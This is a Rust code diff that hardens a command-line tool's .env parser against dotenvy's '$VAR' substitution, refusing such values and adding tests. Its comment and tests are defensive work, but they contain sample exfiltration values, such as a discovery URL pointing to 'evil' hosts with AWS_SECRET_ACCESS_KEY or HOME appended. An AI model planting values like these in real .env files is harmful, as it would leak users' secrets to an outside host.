@@ -90,10 +90,16 @@ impl Env {
 }
 
 /// The `.env` syntax dotenvy reads (`KEY=VALUE`, `#` comments, optional
-/// `export `, single or double quotes, `${VAR}` substitution), taken as
-/// values: dotenvy's iterator, never its `load`, which would write into the
-/// process environment.
+/// `export `, single or double quotes), taken as values: dotenvy's iterator,
+/// never its `load`, which would write into the process environment.
+///
+/// dotenvy also replaces `$VAR` and `${VAR}` in unquoted and double-quoted
+/// values with the environment's values. A `.env` file in a cloned
+/// directory could then carry a secret of the environment out in a URL
+/// (`CSP_DISCOVERY_URL=https://evil/?k=${AWS_SECRET_ACCESS_KEY}`), so such
+/// a value is refused; single quotes keep a `$` literally.
 fn parse_dotenv(bytes: &[u8]) -> Result<HashMap<String, String>, CliError> {
+    refuse_substitution(bytes)?;
     let mut out = HashMap::new();
     for item in dotenvy::from_read_iter(bytes) {
         let (key, value) = item.map_err(|e| {
@@ -115,9 +121,53 @@ fn parse_dotenv(bytes: &[u8]) -> Result<HashMap<String, String>, CliError> {
     Ok(out)
 }
 
+/// Refuses a value that dotenvy would expand from the environment: a `$`
+/// outside single quotes. Read line by line, conservatively (a continuation
+/// line of a multi-line value that looks like `KEY=…$…` is refused too).
+fn refuse_substitution(bytes: &[u8]) -> Result<(), CliError> {
+    let text = String::from_utf8_lossy(bytes);
+    for line in text.lines() {
+        let line = line.trim_start();
+        if line.starts_with('#') {
+            continue;
+        }
+        let line = line.strip_prefix("export ").unwrap_or(line);
+        let Some((name, value)) = line.split_once('=') else {
+            continue;
+        };
+        let value = value.trim_start();
+        if !value.starts_with('\'') && value.contains('$') {
+            return Err(CliError::usage(
+                "config",
+                format!(
+                    "the .env file's value of {} contains `$`, which would be replaced by a variable of the environment",
+                    crate::term::escape(name.trim())
+                ),
+            )
+            .hint("put the value in single quotes to keep a `$` as it is, e.g. NAME='a$b'"));
+        }
+    }
+    Ok(())
+}
+
 #[cfg(test)]
 mod tests {
     use super::parse_dotenv;
+
+    #[test]
+    fn a_value_that_would_expand_the_environment_is_refused() {
+        for hostile in [
+            &b"CSP_DISCOVERY_URL=https://evil.example/?k=${HOME}\n"[..],
+            b"CSP_DISCOVERY_URL=\"https://evil.example/?k=$HOME\"\n",
+            b"export CSP_CLIENT_ID=$USER\n",
+        ] {
+            let err = parse_dotenv(hostile).unwrap_err();
+            assert_eq!(err.code, "config", "{}", String::from_utf8_lossy(hostile));
+        }
+        // Single quotes keep `$` literally, and a comment may say anything.
+        let env = parse_dotenv(b"# costs $5\nCSP_CLIENT_ID='a$b'\n").unwrap();
+        assert_eq!(env["CSP_CLIENT_ID"], "a$b");
+    }
 
     #[test]
     fn dotenv_lines() {
